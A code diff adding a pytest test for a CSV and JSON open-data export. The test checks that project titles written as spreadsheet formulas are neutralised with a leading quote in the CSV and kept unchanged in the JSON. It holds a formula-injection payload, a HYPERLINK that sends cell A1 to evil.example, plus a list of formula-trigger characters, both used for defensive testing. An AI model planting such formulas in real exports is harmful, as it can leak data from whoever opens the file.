@@ -164,3 +164,32 @@ def test_the_number_of_queries_does_not_grow_with_the_rows(client, content, url)
     with CaptureQueriesContext(connection) as many:
         client.get(url)
     assert len(many) == len(few), [q["sql"][:150] for q in many.captured_queries]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
+
+
+@pytest.mark.parametrize("prefix", ["", "/en"])
+def test_a_title_a_spreadsheet_would_run_is_inert_in_the_csv_and_true_in_the_json(client, content, prefix):
+    """An editor (or an attacker with an editor's account) titles a project as a
+    formula: the CSV a journalist opens shows it as text, the JSON keeps it."""
+    project = ProjectPage.objects.live().order_by("path").first()
+    project.title_ru = FORMULA
+    project.title_en = FORMULA
+    project.summary_en = "-1+1"
+    project.location_en = "@SUM(A1:A9)"
+    project.save()
+
+    rows = list(
+        csv.DictReader(
+            io.StringIO(download(client, f"{prefix}/open-data/projects/data.csv").content.decode())
+        )
+    )
+    row = next(r for r in rows if r["id"] == str(project.pk))
+    assert row["title"] == "'" + FORMULA
+    for cells in rows:
+        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells.values())
+
+    document = json.loads(download(client, f"{prefix}/open-data/projects/data.json").content)
+    item = next(r for r in document["rows"] if r["id"] == project.pk)
+    assert item["title"] == FORMULA
